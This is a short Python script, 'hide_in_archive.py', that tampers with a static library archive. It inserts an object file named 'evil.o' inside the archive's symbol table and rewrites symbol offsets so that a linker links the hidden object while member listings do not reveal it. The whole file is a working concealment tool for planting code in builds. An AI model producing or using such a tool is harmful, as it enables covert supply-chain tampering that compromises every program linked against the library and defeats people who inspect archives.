#!/usr/bin/env python3
"""hide_in_archive.py ARCHIVE OBJECT: puts the object into the archive's table of symbols, behind the names, and lets the table point there: a linker takes it,
and who lists members does not see it.
"""
import struct
import sys

path, hidden = sys.argv[1], open(sys.argv[2], "rb").read()
data = open(path, "rb").read()


def head(name, length):
    return (name.ljust(16) + "0".ljust(36) [:32] + str(length).ljust(10) + "`\n").encode()


size = int(data[8 + 48 : 8 + 58])
table, rest = data[68 : 68 + size], data[68 + size + size % 2 :]
count = struct.unpack(">I", table[:4])[0]
offsets, names = list(struct.unpack(">%dI" % count, table[4 : 4 + 4 * count])), table[4 + 4 * count :]
names += b"\0" * ((4 + 4 * count + len(names)) % 2)
member = head("evil.o/", len(hidden)) + hidden + b"\n" * (len(hidden) % 2)
start, total = 68 + 4 + 4 * count + len(names), 4 + 4 * count + len(names) + len(member)
first = offsets[0]
offsets = [start if o == first else o + total - size - size % 2 for o in offsets]
table = struct.pack(">I", count) + struct.pack(">%dI" % count, *offsets) + names + member
open(path, "wb").write(data[:8] + head("/", len(table)) + table + rest)
